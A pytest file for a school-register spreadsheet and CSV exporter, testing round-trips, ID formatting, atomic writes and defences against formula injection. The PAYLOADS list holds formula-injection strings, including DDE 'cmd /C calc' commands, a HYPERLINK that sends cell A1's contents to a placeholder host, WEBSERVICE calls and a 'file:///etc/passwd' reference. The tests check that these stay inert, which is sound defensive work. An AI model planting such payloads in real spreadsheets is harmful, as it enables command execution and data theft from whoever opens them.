"""What we write: refused rows that can be repaired and read again, registers in which nothing acts as a formula."""

from __future__ import annotations

import csv
import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from forms.answers import Answers
from forms.errors import WorldError
from forms.exchange.check import CheckedRoll, Outcome, check_roll
from forms.exchange.columns import REASON_COLUMN, ROW_COLUMN
from forms.exchange.reader import read_roll
from forms.exchange.sheets import read_sheets
from forms.exchange.writer import plain_csv_cell, write_refused, write_register, write_table
from forms.text import Text
from tests.forms.rolls import CONTEXT, FLAT_HEADER, TODAY, csv_bytes, engine, form, pack, pupil, read, read_rows

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\t=", "\u3000="]
BODIES = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://192.0.2.1/?x="&A1,"点我")',
    "1+1",
    "SUM(A1:A9)",
    'IMPORTXML("x","y")',
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://192.0.2.1")',
    "{=1+1}",
    "2+5+cmd|' /C calc'!A0",
    "'1",
    "R1C1",
    '""',
    ";2",
    ",3",
    "\n=1",
    "_x0041_",
    "</t><f>1+1</f>",
    "]]>",
    "&amp;",
    "名字",
    "[0]!A1",
    "A1",
    "1e5",
    "‮1",
    "\u200b1",
    "file:///etc/passwd",
    "http://192.0.2.1/",
    "internal:A1",
    "mailto:x",
    "🐑",
    "\x07",
    "\x1b[31m",
    "$(x)",
    "`x`",
    "%s",
    "--",
    "1;2",
    "#REF!",
]
PAYLOADS = [start + body for start in STARTS for body in BODIES]


def sheet_of(path: Path) -> Worksheet:
    sheet = openpyxl.load_workbook(path).active
    assert isinstance(sheet, Worksheet)
    return sheet


def refused(*rows: dict[str, object]) -> CheckedRoll:
    return check_roll(read_rows(*rows), engine("enrolment"), CONTEXT)


def test_refused_rows_keep_their_columns_and_say_why(tmp_path: Path) -> None:
    checked = refused(pupil(), pupil(姓名="阿依努尔·艾力", 身份证件号="6.53222E+17", 民族="略"))
    write_refused(tmp_path / "不收.xlsx", checked.roll, checked.refused)
    header, row = (list(line) for line in sheet_of(tmp_path / "不收.xlsx").iter_rows(values_only=True))
    assert header == [*FLAT_HEADER, ROW_COLUMN, REASON_COLUMN]
    cells = dict(zip(header, row, strict=True))
    assert cells["姓名"] == "阿依努尔·艾力"
    assert cells["身份证件号"] == "6.53222E+17"
    assert cells["民族"] is None
    assert cells[ROW_COLUMN] == 3
    assert str(cells[REASON_COLUMN]).startswith("身份证件号：证件号成了 6.53E+17。Excel 只记得住前 15 位")


def test_repaired_rows_can_be_imported_again(tmp_path: Path) -> None:
    path = tmp_path / "不收.xlsx"
    checked = refused(pupil(身份证件号=653222201501010017.0))
    write_refused(path, checked.roll, checked.refused)
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    sheet.cell(2, FLAT_HEADER.index("身份证件号") + 1).value = "653222201501010017"
    book.save(path)
    again = check_roll(read_roll(path, form(), TODAY), engine("enrolment"), CONTEXT)
    assert [row.outcome for row in again.rows] == [Outcome.NEW]
    assert {ROW_COLUMN, REASON_COLUMN} <= set(again.roll.unused)


def test_two_row_headers_become_one_row_that_can_be_read(tmp_path: Path) -> None:
    top = [*FLAT_HEADER[:46], "成员1", "", "成员2", ""]
    below = [""] * 46 + ["姓名", "是否监护人", "姓名", "民族"]
    cells = [pupil().get(name, "") for name in FLAT_HEADER[:46]] + ["沙吾提·依明", "是", "", "略"]
    cells[FLAT_HEADER.index("就读方式")] = "半托"
    roll = read(csv_bytes([top, below, cells]), "a.csv")
    checked = check_roll(roll, engine("enrolment"), CONTEXT)
    write_refused(tmp_path / "a.xlsx", roll, checked.refused)
    again = read_roll(tmp_path / "a.xlsx", form(), TODAY)
    assert again.rows[0].answers == roll.rows[0].answers
    assert again.forbidden == roll.forbidden


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_register_comes_back_as_it_went(tmp_path: Path, suffix: str) -> None:
    answers = refused(pupil(上下学距离="3.5", 健康状况="健康或良好")).rows[0].answers
    path = tmp_path / f"学生{suffix}"
    assert write_register(path, form(), [answers]) == 1
    again = read_roll(path, form(), TODAY).rows[0]
    assert again.problems == ()
    stored = {f.name for f in form().top_fields if not f.is_calculated}
    assert dict(again.answers.values) == {k: v for k, v in answers.values.items() if k in stored}


def test_ids_are_text_and_numbers_are_numbers(tmp_path: Path) -> None:
    answers = refused(pupil(上下学距离="3.5")).rows[0].answers
    write_register(
        tmp_path / "a.xlsx", form(), [answers], fields=["id_number", "guardian_phone", "commute_km", "class_no"]
    )
    row = next(sheet_of(tmp_path / "a.xlsx").iter_rows(min_row=2))
    assert [(cell.value, cell.data_type) for cell in row] == [
        ("653222201501010017", "s"),
        ("0999-0123456", "s"),
        (3.5, "n"),
        (2, "n"),
    ]
    assert row[0].number_format == "@"


def test_mappings_of_any_form_are_written_too(tmp_path: Path) -> None:
    equipment = pack().forms["equipment"]
    rows = [{"asset_no": "YQ-1", "name": "地球仪", "quantity": 3, "condition": "1", "category": "老代码"}]
    write_register(
        tmp_path / "a.csv", equipment, rows, fields=["asset_no", "name", "quantity", "condition", "category"]
    )
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        lines = list(csv.reader(file))
    assert lines == [["资产编号", "名称", "数量", "使用状况", "分类"], ["YQ-1", "地球仪", "3", "在用", "老代码"]]


def test_there_are_more_than_500_payloads() -> None:
    assert len(set(PAYLOADS)) > 500


def test_no_payload_is_active_in_xlsx(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    records = [
        Answers().with_values({"name": text, "address": text, "remark": text, "id_number": text}) for text in PAYLOADS
    ]
    write_register(path, form(), records, fields=["name", "address", "remark", "id_number"])
    with zipfile.ZipFile(path) as archive:
        content = {name: archive.read(name) for name in archive.namelist()}
    parts = b"".join(part for name, part in content.items() if name.startswith("xl/worksheets"))
    assert not re.search(rb"<f[ >]|<hyperlink", parts)
    assert not any("externalLink" in name or "vba" in name.lower() for name in content)
    assert all(cell.data_type == "s" for line in sheet_of(path).iter_rows(min_row=2) for cell in line)
    lines = list(next(read_sheets(path.read_bytes())).rows)[1:]
    assert lines == [[payload] * 4 for payload in PAYLOADS]


def test_no_payload_is_active_in_a_table(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    assert write_table(path, Text("表", "Table"), ["=1+1", "n"], [[text, 3] for text in PAYLOADS]) == len(PAYLOADS)
    rows = list(sheet_of(path).iter_rows())
    assert {row[0].data_type for row in rows} == {"s"}
    assert [row[1].value for row in rows[1:]] == [3] * len(PAYLOADS)
    assert [line[0] for line in next(read_sheets(path.read_bytes())).rows] == ["=1+1", *PAYLOADS]


def test_no_payload_is_active_in_csv(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    write_register(path, form(), [{"name": text, "remark": text} for text in PAYLOADS], fields=["name", "remark"])
    with path.open(encoding="utf-8-sig", newline="") as file:
        lines = list(csv.reader(file))[1:]
    for payload, line in zip(PAYLOADS, lines, strict=True):
        for cell in line:
            assert cell == f"'{payload}"
            assert cell.lstrip()[0] not in "=+-@＝＋－＠"


def test_no_payload_in_refused_rows_is_active(tmp_path: Path) -> None:
    checked = refused(*(pupil(姓名=text, 现住址=text, 就读方式="半托") for text in PAYLOADS if "\x07" not in text))
    assert len(checked.refused) > 400
    write_refused(tmp_path / "a.xlsx", checked.roll, checked.refused)
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        assert not re.search(rb"<f[ >]|<hyperlink", archive.read("xl/worksheets/sheet1.xml"))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1", "'=1"),
        ("－5", "'－5"),
        (" +1", "' +1"),
        ("王一诺", "王一诺"),
        (-5, "-5"),
        (None, ""),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_csv_cells(value: str | int | None, expected: str) -> None:
    assert plain_csv_cell(value) == expected


def test_a_failed_write_leaves_the_old_file_and_no_half(tmp_path: Path) -> None:
    target = tmp_path / "没有这个文件夹" / "a.xlsx"
    with pytest.raises(WorldError) as caught:
        write_register(target, form(), [])
    assert "记录没有变" in caught.value.text.zh
    occupied = tmp_path / "a.csv"
    occupied.mkdir()
    with pytest.raises(WorldError):
        write_register(occupied, form(), [])
    assert os.listdir(tmp_path) == ["a.csv"]


def test_a_file_is_replaced_whole(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text("旧的", encoding="utf-8")
    write_register(path, form(), [], fields=["name"])
    assert path.read_text(encoding="utf-8-sig").strip() == '"姓名"'
    assert os.listdir(tmp_path) == ["a.csv"]
